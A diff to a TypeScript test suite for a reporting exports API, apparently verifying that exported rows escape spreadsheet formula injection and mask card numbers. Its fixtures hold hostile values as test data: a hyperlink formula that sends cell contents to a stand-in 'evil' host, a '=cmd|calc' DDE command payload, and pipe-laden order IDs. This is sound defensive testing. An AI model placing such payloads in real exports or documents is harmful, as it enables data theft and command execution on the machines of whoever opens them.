@@ -11,10 +11,17 @@ import { until } from './until.ts';
 
 const base = '/reporting/v1/exports';
 const salesCount = 25;
+/** An identifier of an order may be any text. */
+const oddOrders = new Map([
+  [3, 'a|b'],
+  [4, 'x|y|=hyperlink("http://evil/?"&a1;"ok")'],
+  [5, '|'],
+]);
 
 describe('exports', () => {
   let on: Scene;
   let transactionIds: string[];
+  let orderIds: string[];
 
   const call = (method: string, path: string, body?: unknown, token = on.acquirerToken) =>
     on.client.call(method, base + path, { token, ...(body === undefined ? {} : { body }) });
@@ -51,8 +58,9 @@ describe('exports', () => {
   before(async () => {
     on = await scene();
     transactionIds = [];
+    orderIds = Array.from({ length: salesCount }, (_, at) => oddOrders.get(at) ?? randomUUID());
     for (let count = 0; count < salesCount; count += 1) {
-      const order = { orderId: randomUUID(), orderDescription: '=cmd|calc' };
+      const order = { orderId: orderIds[count], orderDescription: '=cmd|calc' };
       const clientTransactionId = count === 0 ? '-1+2' : `sale-${count}-${randomUUID()}`;
       const isFirst = count === 0;
       transactionIds.push(
@@ -80,6 +88,14 @@ describe('exports', () => {
       rows.map(({ amount }) => amount),
       transactionIds.map((_id, index) => String(1000 + index)),
     );
+    assert.deepEqual(
+      rows.map(({ orderId }) => orderId),
+      orderIds,
+    );
+    for (const { day, offline, updatedAt, clientTransactionId } of rows) {
+      assert.match(`${day} ${offline} ${updatedAt}`, /^[\d-]{10} false [\d-]{10}T[\d:.]+Z$/);
+      assert.match(clientTransactionId ?? '', /^(?:sale-\d+-)?[\da-f-]{36}$/);
+    }
     assert.ok(rows.every(({ maskedNumber }) => /^411111\*+1111$/.test(maskedNumber ?? '')));
     assert.doesNotMatch(answer.text, /4111111111111111/);
   });
